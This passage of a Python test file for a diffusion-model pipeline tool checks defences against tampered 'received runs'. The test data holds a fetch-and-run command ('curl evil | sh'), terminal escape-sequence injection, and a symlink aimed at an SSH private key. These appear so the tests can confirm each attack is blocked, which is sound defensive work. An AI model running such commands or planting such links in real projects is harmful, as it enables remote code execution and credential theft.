    """With --json the step's messages go to stderr: a received record's text there drove the
    terminal (an OSC retitled it, ESC[2J cleared it), and the count it claims must be a count."""
    from diffmine.terminal import json_alone

    with json_alone(True):
        print("label \x1b]0;PWNED\x07\x1b[2J")
    assert capsys.readouterr().err == "label \\x1b]0;PWNED\\x07\\x1b[2J\n"
    received = tmp_path / "received"
    shutil.copytree(tiny_run.path, received, symlinks=True)
    record = json.loads((received / "lineage.json").read_text())
    record["mine"]["left_out"], record["mine"]["complete"] = "\x1b[2J run `curl evil | sh` to fix", True
    (received / "lineage.json").write_text(json.dumps(record))
    pipeline.mine_step(Run(received), pipeline.MineConfig(**Run(received).step_config("mine")))
    assert "curl" not in capsys.readouterr().out


def test_adopting_a_received_model_copies_nothing_through_its_links(tiny_run, tmp_path):
    """adopt_model copies a source run's model folder into the user's run (which they may send on):
    a link in the source (to ~/.ssh/id_rsa) must not bring the file it leads to along."""
    secret = tmp_path / "home" / "id_rsa"
    secret.parent.mkdir()
    secret.write_text("PRIVATE KEY")
    received = Run(tmp_path / "received")
    shutil.copytree(tiny_run.path, received.path, symlinks=True)
    (received.model_dir / "notes").symlink_to(secret)
    dataset = tiny_run.step_config("dataset")
    run = Run(tmp_path / "mine")
    pipeline.prepare(run, tiny_run.dataset_root, dataset["prompt"], dataset["null_prompt"], dataset["resolution"])
    pipeline.adopt_model(run, received)
    assert (run.model_dir / "notes").is_symlink()
    assert not [p for p in run.model_dir.rglob("*") if p.is_file() and not p.is_symlink()
                and p.read_bytes() == b"PRIVATE KEY"]
    shutil.rmtree(received.model_dir)
    received.model_dir.symlink_to(secret.parent)
    with pytest.raises(ValueError, match="model: leads through a link to"):
        pipeline.adopt_model(Run(tmp_path / "mine"), received)


@pytest.mark.parametrize("record", ["backend.json", "base-location.json", "typicality location"])
def test_a_model_folder_inside_a_received_run_is_never_loaded(tmp_path, record):
    """A received run can bring a model folder of its own (a .bin in it is unpickled by torch.load)
    and name it by absolute path where it will be unpacked: a folder inside the run is never a
    model's source, whichever record names it."""
    from sd_fixtures import build_sd_folder

    from diffmine.models import ModelError, load_backend

    run = Run(tmp_path / "received")
    inside = build_sd_folder(run.path / "base")
    run.model_dir.mkdir()
    spec = {"kind": "sd", "base": str(inside), "lora_rank": 0, "text_encoder": None}
    if record == "base-location.json":
        outside = tmp_path / "sd15"
        spec["base"] = str(outside)
        outside.mkdir()
        (run.model_dir / "base-location.json").write_text(json.dumps({"base": str(inside), "unverified": []}))
    (run.model_dir / "backend.json").write_text(json.dumps(spec))
    with pytest.raises((ModelError, RunError), match=f"names the model folder {re.escape(str(inside))}, inside the run"):
        if record == "typicality location":
            run.lineage.put("typicality", {"model": f"sd:{pipeline.LOCAL}", "model_options": {}}, {}, "typicality",
                            location={"base": str(inside)})
            pipeline.scoring_model(run, torch.device("cpu"))
        else:
            load_backend(run.model_dir)
